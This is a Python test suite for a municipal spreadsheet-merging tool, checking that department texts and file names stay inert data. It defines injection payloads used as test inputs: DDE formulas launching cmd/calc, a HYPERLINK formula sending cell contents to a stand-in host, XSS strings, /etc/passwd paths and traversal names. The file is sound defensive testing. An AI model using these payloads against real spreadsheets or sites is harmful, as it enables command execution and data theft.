# ruff: noqa: E501 - texts of attackers, one line each
"""What departments and file names say is data: never a formula, a link, a path, markup or a command for a terminal."""

from __future__ import annotations

import csv
import getpass
import hashlib
import io
import json
import os
import platform
import re
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest

from consolidator.language import LANGUAGES, action_of, message_of
from consolidator.manifest import SHEET
from consolidator.model import Finding, Note, Snapshot
from consolidator.publish.letters import file_name
from consolidator.publish.listing import file_url
from consolidator.reading import returned_files
from consolidator.snapshot import take
from consolidator.snapshot.active import active_streams, dde_formulas
from consolidator.snapshot.strings import character
from consolidator.text import escaped, listed_name
from schemas.codes import CODES
from tests.packages import MAIN, OFFICE, edited, packed, relations, with_sheet
from tests.story import City, everything, run

if TYPE_CHECKING:
    from collections.abc import Iterator

FORMULAS = (
    '=HYPERLINK("http://a.example/?"&A1,"見て")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1", "＋1+1で", "－（検討中）", "＠総務課", " =1+1", "\t=1+1",
)  # fmt: skip
OTHERS = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>", "javascript:alert(1)", "file:///etc/passwd", "http://a.example/x",
    "mailto:x@a.example", "\\\\a.example\\share\\x", "{{ 7*7 }}{% for x in y %}", "[red]赤[/red]", "&amp;&#65;]]>", "internal:'計画'!A1",
    "external:c:\\x.xlsx",
)  # fmt: skip
PAYLOADS = (*FORMULAS, *OTHERS)
TEXT = ("evaluation", "{}", "done")
"""Where the texts are typed: what was done, of each initiative."""
DEPARTMENTS = """
    | code     | bureau                    | name                                  |
    | ../../x  | =1+1                      | CON                                   |
    | 1        | <b>総務部</b>             | ../../総務課                          |
    | a:b*?    | file:///etc/passwd        | {}                                    |
""".format("長い名前の課" * 60)
INITIATIVES = """
    | id   | title                                | policy  | lead    | related |
    | 1    | =HYPERLINK("http://a.example","x")   | 1       | ../../x |         |
    | 01   | <script>alert(2)</script>            | 2-1-1-1 | 1       |         |
    | R5-1 | file:///etc/shadow                   | 1       | a:b*?   |         |
"""


class Attack:
    """A city under attack: every payload was typed once, and a merge was run."""

    def __init__(self, folder: Path) -> None:
        self.city = City(folder / "中" / "市", departments=DEPARTMENTS, initiatives=INITIATIVES)
        self.outside = folder / "外.txt"
        self.outside.write_text("外", encoding="utf-8")
        self.codes = list(self.city.forms)
        self.typed: list[str] = []
        for number, code in enumerate(self.codes):
            self._send(code, number)
        self.before = everything(folder)
        self.said = self.city.merge()
        self.files = everything(self.city.out)

    def _send(self, code: str, number: int) -> None:
        """Send a form with one payload in each of its texts, in turn; the last is the newest and counts."""
        from tests.story import manifest_of, plain_answers  # noqa: PLC0415 - only here

        path = self.city.returned / f"{number}.xlsx"
        path.write_bytes(self.city.forms[code])
        entries = [entry for entry in manifest_of(path).entries if _is_text(entry.table, entry.field)]
        texts = {
            (entry.table, entry.key, entry.field): PAYLOADS[(number * 9 + place) % len(PAYLOADS)]
            for place, entry in enumerate(entries)
        }
        self.typed += texts.values()
        self.city.returns(code, {**plain_answers(manifest_of(path)), **texts}, name=f"{number}.xlsx")


def _is_text(table: str, field: str) -> bool:
    from schemas.tables import TABLES  # noqa: PLC0415 - only here

    return TABLES[table].field(field).kind in ("text", "long_text")


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Attack:
    return Attack(tmp_path_factory.mktemp("攻撃"))


def books(files: dict[str, bytes]) -> Iterator[tuple[str, Any]]:
    for name, content in files.items():
        if name.endswith(".xlsx"):
            yield name, openpyxl.load_workbook(io.BytesIO(content))


def table(files: dict[str, bytes], name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(files[f"data/{name}.csv"].decode("utf-8-sig"), newline="")))


# ---------------------------------------------------------------- texts


def test_everything_was_typed_and_merged(attack: Attack) -> None:
    assert set(PAYLOADS) <= set(attack.typed)
    assert attack.said.code in (0, 1), attack.said
    assert not attack.said.err


def test_no_text_becomes_a_formula_or_a_link(attack: Attack) -> None:
    seen: set[str] = set()
    for name, book in books(attack.files):
        for cell in (cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None):
            if cell.data_type == "f":
                assert not re.search(r"a\.example|cmd\||alert|etc/passwd", str(cell.value)), (name, cell.coordinate)
            elif cell.value in PAYLOADS:
                seen.add(cell.value)
    assert set(FORMULAS) & seen
    assert len(seen) > len(PAYLOADS) / 2


def test_links_lead_to_returned_files_and_nowhere_else(attack: Attack) -> None:
    known = {path.name for path in returned_files(attack.city.returned)}
    targets = []
    for name, content in attack.files.items():
        if not name.endswith(".xlsx"):
            continue
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            rels = "".join(archive.read(part).decode() for part in archive.namelist() if part.endswith(".rels"))
        external = re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', rels)
        assert not external or name == "findings.xlsx"
        targets += external
    assert targets
    for target in targets:
        path = target.removeprefix("file:///").split("#")[0]
        assert not re.match(r"[a-z]+:|[/\\]", path), target
        assert re.split(r"[/\\]", path)[-1] in known


def test_csv_is_faithful_and_texts_like_formulas_are_flagged(attack: Attack) -> None:
    names = [name[5:-4] for name in attack.files if name.startswith("data/") and name.endswith(".csv")]
    stored = {
        value for name in names if name != "findings" for row in table(attack.files, name) for value in row.values()
    }
    assert len(stored & set(FORMULAS)) > len(FORMULAS) / 2
    flagged = {row["value"] for row in table(attack.files, "findings") if row["code"] == "R110"}
    typed = {text.strip() for text in attack.typed}
    assert {text.strip() for text in FORMULAS if text.strip() in typed} <= {text.strip() for text in flagged}
    assert not {text for text in flagged if text in OTHERS}
    assert all(row["severity"] == "note" for row in table(attack.files, "findings") if row["code"] == "R110")


def test_markup_is_text_in_every_page(attack: Attack) -> None:
    for name, content in attack.files.items():
        if name.endswith((".html", ".svg")):
            assert b"<script>alert" not in content
            assert b"<img src=x" not in content


def test_nothing_leaves_the_results_folder(attack: Attack) -> None:
    top = attack.outside.parent
    results = attack.city.out.relative_to(top).as_posix()
    after = {name: held for name, held in everything(top).items() if not name.startswith(f"{results}/")}
    assert {name: held for name, held in after.items() if not name.endswith(".lock")} == attack.before
    for name in attack.files:
        for part in name.split("/"):
            assert part == part.rstrip(" .")
            assert len(part.encode()) <= 255
            assert not re.fullmatch(r"(?i)(con|nul|aux|prn|com\d|lpt\d)(\..*)?", part)


# ---------------------------------------------------------------- names


@pytest.mark.parametrize(
    ("parts", "name"),
    [
        (("../../x", "課"), "_.._x_課"),
        (("CON", ""), "_CON"),
        (("nul.txt", ""), "_nul.txt"),
        (("a\u202excod", "課"), "a xcod_課".replace(" ", "_")),
        (("a\x00b", "\ud800"), "a_b"),
        (("...", " . "), "_"),
        (("a" * 300, ""), "a" * 90),
    ],
)
def test_names_of_departments_are_names_of_files(parts: tuple[str, ...], name: str) -> None:
    assert file_name(parts) == name


def test_names_of_files_show_what_would_be_unseen(tmp_path: Path) -> None:
    assert listed_name(tmp_path / "a\u202excod.xlsx", tmp_path) == "a\\u202excod.xlsx"
    assert listed_name(tmp_path / "\udc97l.xlsx", tmp_path) == "\\udc97l.xlsx"
    assert listed_name(tmp_path / "課" / "が.xlsx", tmp_path) == "課/が.xlsx"
    assert escaped("a\nb\x1b[31m", "\n") == "a\nb\\u001b[31m"
    assert file_url("../提出", "a\\u202excod.xlsx", "", "") == ""


@pytest.mark.skipif(os.name == "nt", reason="Windows takes no such names")
def test_files_with_such_names_go_through_the_whole_command(attack: Attack, tmp_path: Path) -> None:
    returned = tmp_path / "returned"
    returned.mkdir()
    form = next(attack.city.returned.iterdir()).read_bytes()
    for name in (
        b"\x97l\x8e\xae.xlsx",
        "red\x1b[31m\u202excod.xlsx".encode(),
        b"a\x01b.xlsx",
        b"new\nline.xlsx",
        b"'=1+1'.xlsx",
    ):
        (Path(os.fsdecode(os.fsencode(returned) + b"/" + name))).write_bytes(form if b"1b" not in name else b"%PDF-")
    said = run("merge", attack.city.ledger, returned, "--out", tmp_path / "out")
    assert said.code == 1
    assert not said.err
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e\ud800-\udfff]", said.out)
    for _, book in books(everything(tmp_path / "out")):
        assert book.sheetnames


# ---------------------------------------------------------------- links and pipes in the returned folder


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs links and pipes")
def test_links_that_lead_out_are_reported_and_not_read(attack: Attack, tmp_path: Path) -> None:
    returned, elsewhere = tmp_path / "returned", tmp_path / "elsewhere"
    for folder in (returned / "局", elsewhere):
        folder.mkdir(parents=True)
    form = next(attack.city.returned.iterdir()).read_bytes()
    (elsewhere / "secret.xlsx").write_bytes(form)
    (returned / "file.xlsx").symlink_to(elsewhere / "secret.xlsx")
    (returned / "folder").symlink_to(elsewhere)
    (returned / "circle").symlink_to(returned)
    (returned / "nowhere.xlsx").symlink_to(returned / "missing.xlsx")
    (returned / "局" / "a.xlsx").write_bytes(form)
    (returned / "局" / "same.xlsx").symlink_to(returned / "局" / "a.xlsx")
    os.mkfifo(returned / "局" / "pipe.xlsx")
    said = run("merge", attack.city.ledger, returned, "--out", tmp_path / "out")
    assert said.code == 1
    files = everything(tmp_path / "out")
    states = {row["file"]: (row["state"], row["sha256"]) for row in table(files, "submissions")}
    digest = hashlib.sha256(form).hexdigest()
    assert {name: state for name, (state, _) in states.items()} == {
        "file.xlsx": "unreadable", "folder": "unreadable", "nowhere.xlsx": "unreadable", "局/pipe.xlsx": "unreadable",
        "局/a.xlsx": "accepted", "局/same.xlsx": "duplicate",
    }  # fmt: skip
    assert [name for name, (_, sha256) in states.items() if sha256 == digest] == ["局/a.xlsx", "局/same.xlsx"]


# ---------------------------------------------------------------- what would act


def warnings_of(path: Path) -> dict[str, int]:
    result = take(path, path.parent)
    assert isinstance(result, Snapshot), result
    for code in result.warnings:
        for lang in LANGUAGES:
            finding = Finding(code, CODES[code].severity, (("count", "1"),))
            assert message_of(finding, lang)
            assert action_of(finding, lang)
    return {code: result.warnings.count(code) for code in result.warnings}


GOOD = '<row r="1"><c r="A1"><v>1</v></c></row>'
LINK = f'<externalLink xmlns="{MAIN}"><{{}} xmlns:r="{OFFICE}"/></externalLink>'


@pytest.mark.parametrize(
    ("parts", "expected"),
    [
        ({}, {}),
        ({"xl/vbaProject.bin": b"x"}, {"F120": 1}),
        ({"xl/macrosheets/sheet1.xml": b"<x/>"}, {"F120": 1}),
        ({"xl/externalLinks/externalLink1.xml": LINK.format("externalBook")}, {"F121": 1}),
        (
            {"xl/externalLinks/externalLink1.xml": LINK.format('ddeLink ddeService="cmd" ddeTopic="/c calc"')},
            {"F122": 1},
        ),
        ({"xl/externalLinks/externalLink1.xml": LINK.format("oleLink")}, {"F122": 1}),
        ({"xl/connections.xml": b"<x/>", "xl/queryTables/queryTable1.xml": b"<x/>"}, {"F123": 2}),
        ({"xl/embeddings/oleObject1.bin": b"x"}, {"F124": 1}),
        ({"xl/activeX/activeX1.xml": b"<x/>", "xl/activeX/activeX1.bin": b"x"}, {"F124": 1}),
    ],
)
def test_what_would_act_is_reported(tmp_path: Path, parts: dict[str, str | bytes], expected: dict[str, int]) -> None:
    assert warnings_of(edited(with_sheet(tmp_path / "a.xlsx", GOOD), parts)) == expected


@pytest.mark.parametrize(
    "formula",
    ["cmd|'/c calc'!A1", "1+Excel|Book!R1C1", "IF(TRUE,MSEXCEL|'\\..\\cmd.exe /c calc'!'',1)", 'A1&"|"&winword|x!y'],
)
def test_dde_in_a_formula(tmp_path: Path, formula: str) -> None:
    written = formula.replace("&", "&amp;")
    path = with_sheet(tmp_path / "a.xlsx", f'<row r="1"><c r="A1"><f>{written}</f><v>1</v></c></row>')
    assert warnings_of(path) == {"F122": 1}


@pytest.mark.parametrize("stroke", ["|", "&#124;", "&#x7C;"])
def test_dde_beyond_the_columns_that_are_needed(tmp_path: Path, stroke: str) -> None:
    row = f'<row r="1"><c r="A1"><v>1</v></c><c r="F1"><f>cmd{stroke}\'/c calc\'!A1</f><v>1</v></c></row>'
    path = with_sheet(tmp_path / "a.xlsx", row)
    whole = take(path, path.parent)
    assert isinstance(whole, Snapshot)
    part = take(path, path.parent, columns={sheet.name: 1 for sheet in whole.sheets})
    assert isinstance(part, Snapshot)
    assert part.warnings == whole.warnings == ("F122",)


@pytest.mark.parametrize("formula", ['A1&"|x!"', 'IF(A1="a|b!c",1,2)', "SUM(A1:A3)", None])
def test_formulas_without_dde(formula: str | None) -> None:
    assert dde_formulas([formula]) == ()


def test_macros_and_objects_of_other_formats(tmp_path: Path) -> None:
    assert active_streams(["workbook", "_vba_project_cur", "vba"]) == ("F120",)
    assert active_streams(["workbook", "mbd0018d4ce", "\x05summaryinformation"]) == ("F124",)
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="表"><table:table-row><table:table-cell/></table:table-row></table:table>'
        '<table:dde-links><table:dde-link><office:dde-source office:dde-application="soffice"/></table:dde-link>'
        "</table:dde-links></office:spreadsheet></office:body></office:document-content>"
    )
    parts = {
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "META-INF/manifest.xml": b'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        "content.xml": content.encode(),
        "Basic/Standard/Module1.xml": b"<x/>",
    }
    assert warnings_of(packed(tmp_path / "a.ods", parts)) == {"F120": 1, "F122": 1, "F129": 1}


def test_links_are_counted_in_the_sentence_of_validate(attack: Attack, tmp_path: Path) -> None:
    path = tmp_path / "様式.xlsx"
    path.write_bytes(next(iter(attack.city.forms.values())))
    edited(path, {f"xl/externalLinks/externalLink{n}.xml": LINK.format("externalBook") for n in (1, 2)})
    said = run("validate", path, "--json")
    messages = [row["message"] for row in json.loads(said.out) if row["code"] == "F121"]
    assert len(messages) == 1
    assert "2" in messages[0]


# ---------------------------------------------------------------- integrity


def test_results_hold_the_digests_of_their_inputs_and_the_version(attack: Attack) -> None:
    record = json.loads(attack.files["results.json"])
    inputs = record["inputs"]
    for path in returned_files(attack.city.returned):
        assert inputs[f"returned/{path.name}"] == hashlib.sha256(path.read_bytes()).hexdigest()
    assert inputs[f"plan/{attack.city.ledger.name}"] == hashlib.sha256(attack.city.ledger.read_bytes()).hexdigest()
    assert inputs["version"]
    submitted = {row["file"]: row["sha256"] for row in table(attack.files, "submissions")}
    assert {f"returned/{name}": digest for name, digest in submitted.items()}.items() <= inputs.items()


def test_a_hidden_sheet_that_someone_changed_is_noticed(attack: Attack, tmp_path: Path) -> None:
    path = tmp_path / "様式.xlsx"
    path.write_bytes(next(iter(attack.city.forms.values())))
    book = openpyxl.load_workbook(path)
    sheet = book[SHEET]
    packed_cells = [cell for cell in sheet["A"] if isinstance(cell.value, str) and len(cell.value) > 500]
    text = packed_cells[0].value
    packed_cells[0].value = text[:200] + ("A" if text[200] != "A" else "B") + text[201:]
    book.save(path)
    said = run("validate", path, "--json")
    assert [row["code"] for row in json.loads(said.out)] == ["F112"]


# ---------------------------------------------------------------- persons


PERSON = "秘密野太郎"


def test_names_that_programs_keep_in_files_reach_no_output(attack: Attack, tmp_path: Path) -> None:
    returned = tmp_path / "returned"
    returned.mkdir()
    for path in attack.city.returned.iterdir():
        book = openpyxl.load_workbook(path)
        book.properties.creator = book.properties.lastModifiedBy = PERSON
        sheet = next(sheet for sheet in book if sheet.sheet_state == "visible")
        sheet["A1"].comment = openpyxl.comments.Comment(f"{PERSON}:\nこの数字でよいですか。", PERSON)
        book.save(returned / path.name)
    ledger = tmp_path / "plan.xlsx"
    book = openpyxl.load_workbook(attack.city.ledger)
    book.properties.creator = book.properties.lastModifiedBy = PERSON
    book.save(ledger)
    assert run("merge", ledger, returned, "--out", tmp_path / "out").code in (0, 1)
    files = everything(tmp_path / "out")
    assert "この数字でよいですか" in unpacked(files["findings.xlsx"])
    for name, content in files.items():
        if name.startswith("returns/") and name.endswith(".xlsx"):
            continue  # the sender's own workbook, which goes back to the sender with all that it held
        assert PERSON not in unpacked(content), name


def test_results_name_neither_user_nor_computer_nor_place(attack: Attack) -> None:
    marks = [platform.node(), str(attack.city.folder), str(Path.home())]
    user = getpass.getuser()
    for name, content in attack.files.items():
        text = unpacked(content)
        assert not [mark for mark in marks if len(mark) > 4 and mark in text], name
        assert not re.search(rf"<(dc:creator|cp:lastModifiedBy)>{re.escape(user)}<", text), name


def unpacked(content: bytes) -> str:
    """Return a file as text, the members of an archive unpacked."""
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            content = b"".join(archive.read(name) for name in archive.namelist())
    return content.decode("utf-8", errors="replace")


def test_a_note_loses_the_name_that_excel_puts_before_it(tmp_path: Path) -> None:
    comments = (
        f'<comments xmlns="{MAIN}"><authors><author>{PERSON}</author></authors><commentList>'
        f'<comment ref="A1" authorId="0"><text><r><t>{PERSON}:</t></r><r><t>\nなぜ？</t></r></text></comment>'
        f'<comment ref="A2" authorId="0"><text><r><t>{PERSON}:\n</t></r></text></comment>'
        f'<comment ref="A3" authorId="0"><text><r><t>{PERSON}に確認</t></r></text></comment></commentList></comments>'
    )
    parts = {
        "xl/comments1.xml": comments,
        "xl/worksheets/_rels/sheet1.xml.rels": relations(("comments", "../comments1.xml")),
    }
    snapshot = take(edited(with_sheet(tmp_path / "a.xlsx", GOOD), parts), tmp_path)
    assert isinstance(snapshot, Snapshot)
    assert snapshot.sheets[0].notes == (Note(1, 1, "なぜ？", "note"), Note(3, 1, f"{PERSON}に確認", "note"))


def test_half_a_character_in_a_note_stays_as_it_is_written() -> None:
    assert re.sub(r"_x([0-9A-F]{4})_", character, "_xD800__x3042_") == "_xD800_あ"


# ---------------------------------------------------------------- reports


def test_reports_show_what_was_typed_as_text(attack: Attack, tmp_path: Path) -> None:
    said = run("report", attack.city.out / "master.xlsx", "--out", tmp_path / "report")
    assert said.code in (0, 1), said
    pages = {name: unpacked(content) for name, content in everything(tmp_path / "report").items()}
    assert any(name.endswith(".html") for name in pages)
    assert any(name.endswith(".docx") for name in pages)
    for name, page in pages.items():
        assert "<script>alert" not in page, name
        assert "<img src=x" not in page, name
        assert not re.search(r"""(?:href|src|Target)=["'](?:javascript|file|http://a\.example)""", page), name
        assert "DDEAUTO" not in page, name
    assert any("&lt;script&gt;alert(" in page for page in pages.values())
